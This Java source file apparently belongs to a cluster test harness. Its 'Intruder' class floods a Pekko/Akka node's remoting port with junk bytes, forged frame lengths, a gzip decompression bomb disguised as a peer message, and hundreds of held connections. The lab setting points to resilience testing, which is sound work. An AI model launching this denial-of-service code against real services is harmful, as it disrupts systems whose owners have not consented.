package io.understudy.harness.hostile;

import io.understudy.harness.lab.Node;
import io.understudy.harness.lab.Running;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.net.Socket;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import java.util.zip.GZIPOutputStream;

/**
 * Somebody at the port of a cluster who knows how its nodes begin, and is none: {@code Intruder HOST PORT SECONDS}. Says so when it
 * begins and when it is done.
 */
public final class Intruder {

    private static final byte[] BEGINNING = "AKKA\2".getBytes(StandardCharsets.US_ASCII);
    private static final int CROWD = 600;
    private static final int MANY = 4;
    private static final int MEGA = 1 << 20;
    private static final int BOMB = 200 * MEGA;

    /** Of the serializer of letters. */
    private static final int CBOR = 33;

    /** In the place of somebody who is not named. */
    private static final int NOBODY = 0xff000000;

    private final String host;
    private final int port;
    private final long end;

    private Intruder(String host, int port, long end) {
        this.host = host;
        this.port = port;
        this.end = end;
    }

    /** What is sent once connected. */
    private interface Attack {
        void send(OutputStream out) throws IOException;
    }

    public static void main(String[] arguments) throws Exception {
        int port = Integer.parseInt(arguments[1]);
        var intruder =
                new Intruder(arguments[0], port, System.nanoTime() + Long.parseLong(arguments[2]) * 1_000_000_000L);
        byte[] bomb = bomb(arguments[0], port);
        System.out.println("begins");
        var threads = List.of(
                Thread.ofVirtual().start(() -> intruder.repeat(Intruder::garbage)),
                Thread.ofVirtual().start(() -> intruder.repeat(out -> frame(out, Integer.MAX_VALUE))),
                Thread.ofVirtual().start(() -> intruder.repeat(out -> frame(out, -4))),
                Thread.ofVirtual().start(() -> intruder.repeat(out -> frame(out, BOMB))),
                Thread.ofVirtual().start(() -> intruder.repeat(out -> out.write(bomb))),
                Thread.ofVirtual().start(intruder::crowd));
        for (Thread thread : threads) {
            thread.join();
        }
        System.out.println("done");
    }

    private boolean isOver() {
        return System.nanoTime() > end;
    }

    private void repeat(Attack attack) {
        while (!isOver()) {
            try (Socket socket = new Socket(host, port)) {
                socket.getOutputStream().write(BEGINNING);
                attack.send(socket.getOutputStream());
            } catch (IOException hungUp) {
                // that is what it should do
                Thread.onSpinWait();
            }
        }
    }

    private static void garbage(OutputStream out) throws IOException {
        byte[] garbage = new byte[500];
        new Random().nextBytes(garbage);
        out.write(garbage);
    }

    /** Says how long it is, and sends as much as is taken. */
    private static void frame(OutputStream out, int length) throws IOException {
        out.write(little(4).putInt(length).array());
        byte[] some = new byte[MEGA];
        for (int sent = 0; sent < MANY * BOMB / MEGA; sent++) {
            out.write(some);
        }
    }

    /** All the connections it gets, for as long as it gets them. */
    private void crowd() {
        List<Socket> all = new ArrayList<>();
        while (!isOver()) {
            try {
                all.add(new Socket(host, port));
                all.getLast().getOutputStream().write(BEGINNING);
            } catch (IOException full) {
                Thread.onSpinWait();
            }
            if (all.size() > CROWD) {
                close(all);
            }
        }
        close(all);
    }

    private static void close(List<Socket> all) {
        for (Socket one : all) {
            try {
                one.close();
            } catch (IOException gone) {
                Thread.onSpinWait();
            }
        }
        all.clear();
    }

    /** A whole frame: a letter to the node's peer, which is small as long as it is compressed. */
    private static byte[] bomb(String host, int port) throws IOException {
        ByteArrayOutputStream payload = new ByteArrayOutputStream();
        try (GZIPOutputStream zip = new GZIPOutputStream(payload)) {
            byte[] some = new byte[MEGA];
            for (int i = 0; i < BOMB / MEGA; i++) {
                zip.write(some);
            }
        }
        byte[] recipient = ascii("pekko://understudy@" + host + ":" + port + "/user/peer");
        byte[] manifest = ascii("io.understudy.cluster.peer.Letter$ShowAgain");
        int header = 28;
        int size = header + 2 + recipient.length + 2 + manifest.length + payload.size();
        return little(4 + size)
                .putInt(size)
                .putInt(0)
                .putLong(7)
                .putInt(CBOR)
                .putInt(NOBODY)
                .putInt(header)
                .putInt(header + 2 + recipient.length)
                .putShort((short) recipient.length)
                .put(recipient)
                .putShort((short) manifest.length)
                .put(manifest)
                .put(payload.toByteArray())
                .array();
    }

    private static byte[] ascii(String text) {
        return text.getBytes(StandardCharsets.US_ASCII);
    }

    private static ByteBuffer little(int size) {
        return ByteBuffer.allocate(size).order(ByteOrder.LITTLE_ENDIAN);
    }

    /** Runs on that node; ends with it. */
    public static Running against(Node on, String host, int port, int seconds) {
        return on.start(
                "intruder",
                List.of(
                        Path.of(System.getProperty("java.home"), "bin", "java").toString(),
                        "-Xmx96m",
                        "-XX:TieredStopAtLevel=1",
                        "-cp",
                        System.getProperty("java.class.path"),
                        Intruder.class.getName(),
                        host,
                        Integer.toString(port),
                        Integer.toString(seconds)));
    }
}
